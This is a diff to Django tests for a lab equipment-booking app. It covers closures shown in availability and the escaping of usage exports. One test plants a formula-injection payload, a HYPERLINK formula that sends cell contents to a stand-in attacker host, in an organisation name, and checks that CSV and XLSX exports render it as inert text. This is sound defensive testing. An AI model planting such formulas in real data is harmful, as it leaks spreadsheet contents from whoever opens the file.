@@ -6,7 +6,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from booking import services
-from booking.models import Booking, BookingStatus, Category, EquipmentStatus, Line
+from booking.models import Booking, BookingStatus, Category, Closure, EquipmentStatus, Line
 from tests.booking.conftest import local
 from tests.booking.factories import EquipmentFactory
 from tests.factories import MembershipFactory, OrganisationFactory
@@ -174,6 +174,48 @@ def test_availability_query_count_does_not_grow_with_bookings(
             {"start": iso(local(2026, 11, 23)), "end": iso(local(2026, 12, 21))},
         )
     assert len(response.json()["free"]) > 12
+
+
+def test_availability_shows_closures_of_the_lab_and_the_machine_beside_bookings(
+    frozen, client_for, member, other_member, machine
+):
+    services.booking_create(
+        user=other_member,
+        equipment=machine,
+        start=local(2026, 11, 25, 9),
+        end=local(2026, 11, 25, 10),
+    )
+    Closure.objects.create(
+        equipment=None, start=local(2026, 11, 25, 13), end=local(2026, 11, 25, 14), reason="Fête"
+    )
+    Closure.objects.create(
+        equipment=machine,
+        start=local(2026, 11, 25, 15),
+        end=local(2026, 11, 25, 16),
+        reason="Entretien",
+    )
+    Closure.objects.create(  # another machine's: not this one's business
+        equipment=EquipmentFactory(),
+        start=local(2026, 11, 25, 11),
+        end=local(2026, 11, 25, 12),
+        reason="Ailleurs",
+    )
+    response = client_for(member).get(
+        f"/api/v1/equipment/{machine.pk}/availability/",
+        {"start": iso(local(2026, 11, 25)), "end": iso(local(2026, 11, 26))},
+    )
+    body = response.json()
+    assert [(b["kind"], b["label"], b["start"], b["end"]) for b in body["busy"]] == [
+        ("booking", "Réservé", "2026-11-25T09:00:00Z", "2026-11-25T10:00:00Z"),
+        ("closure", "Fête", "2026-11-25T13:00:00Z", "2026-11-25T14:00:00Z"),
+        ("closure", "Entretien", "2026-11-25T15:00:00Z", "2026-11-25T16:00:00Z"),
+    ]
+    assert [(f["start"], f["end"]) for f in body["free"]] == [
+        ("2026-11-25T08:30:00Z", "2026-11-25T09:00:00Z"),
+        ("2026-11-25T10:00:00Z", "2026-11-25T13:00:00Z"),
+        ("2026-11-25T14:00:00Z", "2026-11-25T15:00:00Z"),
+        ("2026-11-25T16:00:00Z", "2026-11-25T17:30:00Z"),
+    ]
 
 
 # --- bookings -------------------------------------------------------------------------------
@@ -508,6 +550,26 @@ def test_usage_report_for_staff_as_json_and_csv(frozen, client_for, member, staf
     assert xlsx.status_code == 200
     assert load_workbook(io.BytesIO(xlsx.content)).sheetnames == ["Machines", "Organisations"]
     assert client_for(staff).get("/api/v1/usage/", {"start": "x"}).status_code == 400
+
+
+def test_a_formula_in_a_name_comes_out_as_text_in_the_usage_exports(
+    frozen, client_for, member, staff, machine, booked
+):
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
+    booked.organisation.name = formula
+    booked.organisation.save()
+    machine.name = "@SUM(1+1)"
+    machine.save()
+    query = {"start": iso(local(2026, 11, 23)), "end": iso(local(2026, 11, 30))}
+    csv_text = client_for(staff).get("/api/v1/usage.csv", {**query, "table": "organisations"})
+    assert csv_text.content.decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK(")
+    machines = client_for(staff).get("/api/v1/usage.csv", query).content.decode("utf-8-sig")
+    assert "'@SUM(1+1)," in machines
+    book = load_workbook(io.BytesIO(client_for(staff).get("/api/v1/usage.xlsx", query).content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not any(cell.data_type == "f" for cell in cells)  # no live formula anywhere
+    texts = [cell.value for cell in cells if cell.data_type == "s"]
+    assert any(formula in text for text in texts) and any("@SUM(1+1)" in t for t in texts)
 
 
 def test_reverse_names_exist():
